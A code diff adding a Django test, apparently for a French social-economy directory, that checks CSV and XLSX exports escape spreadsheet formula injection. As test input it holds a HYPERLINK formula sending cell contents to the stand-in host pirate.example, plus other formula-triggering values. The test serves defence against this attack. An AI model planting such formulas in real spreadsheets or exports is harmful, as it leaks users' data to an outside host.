@@ -198,3 +198,22 @@ def test_the_xlsx_export_has_the_same_columns(client, structures):
     assert len(lignes[0]) == 12
     assert lignes[1][0] == "Coursiers Solidaires"
     assert lignes[1][5] == "scop"
+
+
+FORMULE = '=HYPERLINK("https://pirate.example/?"&A1,"Cliquez")'
+
+
+def test_the_exports_never_turn_a_name_into_a_formula(client, territoire):
+    import csv
+    import io
+
+    import openpyxl
+
+    StructureFactory(raison_sociale=FORMULE, sigle="-1+2", description="@SOMME(A1)", commune=territoire["rennes"])
+    reponse = client.get(reverse("acteurs_ess:exporter_csv"))
+    lignes = list(csv.reader(io.StringIO(b"".join(reponse.streaming_content).decode("utf-8-sig"), newline="")))
+    assert lignes[1][:2] == ["'" + FORMULE, "'-1+2"]
+    assert lignes[1][11] == "'@SOMME(A1)"
+    reponse = client.get(reverse("acteurs_ess:exporter_xlsx"))
+    cellules = next(openpyxl.load_workbook(io.BytesIO(reponse.content)).active.iter_rows(min_row=2))
+    assert [(c.value, c.data_type) for c in (cellules[0], cellules[1])] == [(FORMULE, "s"), ("-1+2", "s")]
